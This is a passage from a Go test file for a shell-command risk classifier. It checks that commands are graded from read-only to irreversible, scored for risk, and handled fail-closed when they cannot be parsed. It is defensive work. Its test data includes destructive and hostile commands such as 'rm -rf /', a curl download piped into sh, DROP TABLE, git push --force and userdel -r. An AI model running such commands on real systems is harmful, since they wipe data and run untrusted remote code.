	{"sysctl -w net.ipv4.ip_forward=1", W, "kernel parameters", ""},
	{"mount", R, "", ""},
	{"mount /dev/sdb1 /mnt", W, "", ""},
	{"ip addr show", R, "", ""},
	{"ip link set eth0 down", W, "", ""},
	{"ip route flush table main", D, "", ""},
	{"foobarbaz --do-things", W, "unknown command foobarbaz", ""},
	{"./deploy.sh --prod", W, "unknown command deploy.sh", ""},
	{"userdel -r bob", D, "home directory", ""},
	{"", R, "empty command", ""},
	{"   \n\t ", R, "empty command", ""},

	// Parse errors fail closed.
	{"echo 'unterminated", I, "cannot parse the command", ""},
	{"ls |", I, "cannot parse the command", ""},
	{"if then fi", I, "cannot parse the command", ""},
	{"echo $(", I, "cannot parse the command", ""},
}

func TestAnalyzeClasses(t *testing.T) {
	if len(classCases) < 150 {
		t.Fatalf("only %d cases", len(classCases))
	}
	for _, tc := range classCases {
		an := shell.Analyze(tc.cmd)
		if an.Class != tc.class {
			t.Errorf("Analyze(%q).Class = %s, want %s\n%s", tc.cmd, an.Class, tc.class, describe(an))
			continue
		}
		if tc.reason != "" && !hasReason(an, tc.reason) {
			t.Errorf("Analyze(%q): no reason contains %q\n%s", tc.cmd, tc.reason, describe(an))
		}
		if tc.target != "" && !contains(an.Targets, tc.target) {
			t.Errorf("Analyze(%q): targets %q lack %q", tc.cmd, an.Targets, tc.target)
		}
		if err := check(an); err != "" {
			t.Errorf("Analyze(%q): %s\n%s", tc.cmd, err, describe(an))
		}
	}
}

func hasReason(an gatehouse.Analysis, sub string) bool {
	for _, r := range an.Reasons {
		if strings.Contains(r, sub) {
			return true
		}
	}
	return false
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func describe(an gatehouse.Analysis) string {
	var b strings.Builder
	b.WriteString("  reasons: " + strings.Join(an.Reasons, " | ") + "\n")
	for _, c := range an.Commands {
		b.WriteString("  " + string(c.Class) + " " + c.Name + " " + strings.Join(c.Args, " ") +
			" wrappers=" + strings.Join(c.Wrappers, ",") + " targets=" + strings.Join(c.Targets, ",") + "\n")
	}
	return b.String()
}

// check returns what is wrong with an analysis's invariants, or "".
func check(an gatehouse.Analysis) string {
	if !an.Class.Valid() {
		return "invalid class " + string(an.Class)
	}
	if an.Risk < 0 || an.Risk > 100 {
		return "risk out of range"
	}
	if an.ParseError != "" {
		if an.Class != I || an.Risk != 100 {
			return "a parse error must be irreversible with risk 100"
		}
		return ""
	}
	if an.Commands == nil || an.Reasons == nil {
		return "nil Commands or Reasons"
	}
	want, risk := R, 0
	seen := map[string]bool{}
	for _, c := range an.Commands {
		if !c.Class.Valid() {
			return "invalid command class " + string(c.Class)
		}
		lo, hi := band(c.Class)
		if c.Risk < lo || c.Risk > hi {
			return "command risk outside its class's band"
		}
		want = gatehouse.MaxClass(want, c.Class)
		risk = max(risk, c.Risk)
		for _, r := range c.Reasons {
			if !seen[r] {
				seen[r] = true
				if !contains(an.Reasons, r) {
					return "reason of a command missing: " + r
				}
			}
		}
	}
	if an.Class != want {
		return "class is not the max of the commands' classes"
	}
	if an.Risk != risk {
		return "risk is not the max of the commands' risks"
	}
	if len(an.Commands) > 0 && len(seen) != len(an.Reasons) {
		return "reasons are not exactly the commands' reasons"
	}
	return ""
}

func band(c gatehouse.Class) (int, int) {
	switch c {
	case R:
		return 0, 10
	case W:
		return 20, 50
	case D:
		return 60, 89
	}
	return 90, 100
}

func TestCommandsFound(t *testing.T) {
	an := shell.Analyze(`sudo -u postgres timeout 30 nice -n 5 psql -c 'SELECT 1'`)
	if len(an.Commands) != 1 {
		t.Fatalf("commands: %+v", an.Commands)
	}
	c := an.Commands[0]
	if c.Name != "psql" || strings.Join(c.Wrappers, ",") != "sudo,timeout,nice" || strings.Join(c.Args, " ") != "-c SELECT 1" {
		t.Errorf("got %+v", c)
	}
	if !contains(c.Targets, "user postgres") {
		t.Errorf("targets %q lack the sudo user", c.Targets)
	}

	an = shell.Analyze(`/usr/bin/rm -f "$DIR/build" '*.o'`)
	c = an.Commands[0]
	if c.Name != "rm" || c.Args[1] != "$DIR/build" || c.Args[2] != "*.o" || !c.Dynamic {
		t.Errorf("rm: got %+v", c)
	}

	an = shell.Analyze("ls *.go")
	if !an.Commands[0].Dynamic {
		t.Error("a glob is dynamic")
	}
	an = shell.Analyze("ls '*.go'")
	if an.Commands[0].Dynamic {
		t.Error("a quoted glob is not dynamic")
	}

	an = shell.Analyze("FOO=bar make test")
	if an.Commands[0].Name != "make" {
		t.Errorf("assignment: got %+v", an.Commands)
	}

	an = shell.Analyze("> file")
	if len(an.Commands) != 1 || an.Commands[0].Name != "" || an.Commands[0].Class != W {
		t.Errorf("bare redirection: got %+v", an.Commands)
	}

	an = shell.Analyze(`bash -c "sudo rm -rf /"`)
	if got := strings.Join(an.Commands[0].Wrappers, ","); got != "bash -c,sudo" {
		t.Errorf("wrappers %q", got)
	}

	an = shell.Analyze("find . -name '*.tmp' -exec rm {} +")
	if len(an.Commands) != 2 || an.Commands[0].Name != "rm" || an.Commands[0].Wrappers[0] != "find -exec" || !an.Commands[0].Dynamic {
		t.Errorf("find -exec: got %+v", an.Commands)
	}

	an = shell.Analyze("ssh web1 'cd /srv && ls'")
	for _, c := range an.Commands {
		if !contains(c.Targets, "web1") || c.Wrappers[0] != "ssh" {
			t.Errorf("ssh: got %+v", c)
		}
	}

	// Every stage of a pipeline and every part of a list is found.
	an = shell.Analyze("a && b || c; d | e |& f & g")
	var names []string
	for _, c := range an.Commands {
		names = append(names, c.Name)
	}
	if strings.Join(names, " ") != "a b c d e f g" {
		t.Errorf("names %q", names)
	}
}

func TestAggregate(t *testing.T) {
	an := shell.Analyze("rm a; rm b; ls > out.txt; rm a")
	if an.Class != D || an.Risk != 65 {
		t.Errorf("class %s risk %d", an.Class, an.Risk)
	}
	if n := strings.Count(strings.Join(an.Reasons, "\n"), "rm: deletes files"); n != 1 {
		t.Errorf("reason repeated %d times: %q", n, an.Reasons)
	}
	if strings.Join(an.Targets, ",") != "a,b,out.txt" {
		t.Errorf("targets %q", an.Targets)
	}
	if hasReason(an, "ls: reads only") {
		t.Errorf("a read reason explains a write: %q", an.Reasons)
	}
}

func TestParseError(t *testing.T) {
	an := shell.Analyze("echo 'oops")
	if an.ParseError == "" || an.Class != I || an.Risk != 100 || len(an.Commands) != 0 {
		t.Errorf("got %+v", an)
	}
	if !strings.HasPrefix(an.Reasons[0], "cannot parse the command: ") {
		t.Errorf("reason %q", an.Reasons[0])
	}
}

func TestDepthBound(t *testing.T) {
	cmd := "ls"
	for range shell.MaxDepth + 2 {
		cmd = "sh -c " + quote(cmd)
	}
	an := shell.Analyze(cmd)
	if an.Class != I || !hasReason(an, "nested") {
		t.Errorf("got %s %q", an.Class, an.Reasons)
	}
	cmd = "ls"
	for range shell.MaxDepth - 1 {
		cmd = "sh -c " + quote(cmd)
	}
	if an := shell.Analyze(cmd); an.Class != R {
		t.Errorf("%d levels: got %s %q", shell.MaxDepth-1, an.Class, an.Reasons)
	}
}

func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func TestAnalyzeArgv(t *testing.T) {
	cases := []struct {
		argv   []string
		class  gatehouse.Class
		reason string
	}{
		{[]string{"rm", "-rf", "/"}, I, "whole filesystem"},
		{[]string{"rm", "-rf", "build"}, D, "rm -r"},
		{[]string{"/bin/sh", "-c", "curl -s https://x.example | sh"}, I, "pipes a download into a shell"},
		{[]string{"sudo", "bash", "-c", "rm -rf /"}, I, "whole filesystem"},
		// No shell: $(…) is a literal argument, not a substitution.
		{[]string{"ls", "$(rm -rf /)"}, R, ""},
		{[]string{"echo", "DROP TABLE x"}, R, ""},
		{[]string{"psql", "-c", "DROP TABLE x"}, I, "DROP TABLE x"},
		{[]string{"git", "push", "--force"}, I, "--force"},
		{[]string{"env", "FOO=1", "xargs", "rm"}, D, "rm: deletes files"},
		{[]string{"ssh", "host", "rm", "-rf", "/"}, I, "whole filesystem"},
		{[]string{"kubectl", "get", "pods"}, R, ""},
		{nil, R, "empty command"},
	}
	for _, tc := range cases {
		an := shell.AnalyzeArgv(tc.argv)
		if an.Class != tc.class {
			t.Errorf("AnalyzeArgv(%q).Class = %s, want %s\n%s", tc.argv, an.Class, tc.class, describe(an))
			continue
		}
		if tc.reason != "" && !hasReason(an, tc.reason) {
			t.Errorf("AnalyzeArgv(%q): no reason contains %q\n%s", tc.argv, tc.reason, describe(an))
		}
		if err := check(an); err != "" {
			t.Errorf("AnalyzeArgv(%q): %s", tc.argv, err)
		}
	}
	an := shell.AnalyzeArgv([]string{"ls", "$(rm -rf /)"})
	if an.Commands[0].Dynamic || an.Commands[0].Args[0] != "$(rm -rf /)" {
		t.Errorf("argv: got %+v", an.Commands[0])
	}
}

func TestRiskBands(t *testing.T) {
	order := func(cmds ...string) {
		t.Helper()
		prev := -1
		for _, cmd := range cmds {
			r := shell.Analyze(cmd).Risk
			if r < prev {
				t.Errorf("risk of %q is %d, below the previous %d", cmd, r, prev)
			}
			prev = r
		}
	}
	order("ls", "curl https://example.com", "touch x", "rm x", "rm -r x", "rm -r $X", "git push --force", "rm -rf /")
	order("terraform plan", "terraform init", "terraform apply", "terraform apply -auto-approve", "terraform destroy", "terraform destroy -auto-approve")
	if a, b := shell.Analyze("kubectl apply -f x.yaml").Risk, shell.Analyze("kubectl --context prod apply -f x.yaml").Risk; b <= a {
		t.Errorf("production does not raise risk: %d, %d", a, b)
	}
	if a, b := shell.Analyze("apt-get install x").Risk, shell.Analyze("sudo apt-get install x").Risk; b <= a {
		t.Errorf("sudo does not raise risk: %d, %d", a, b)
	}
}
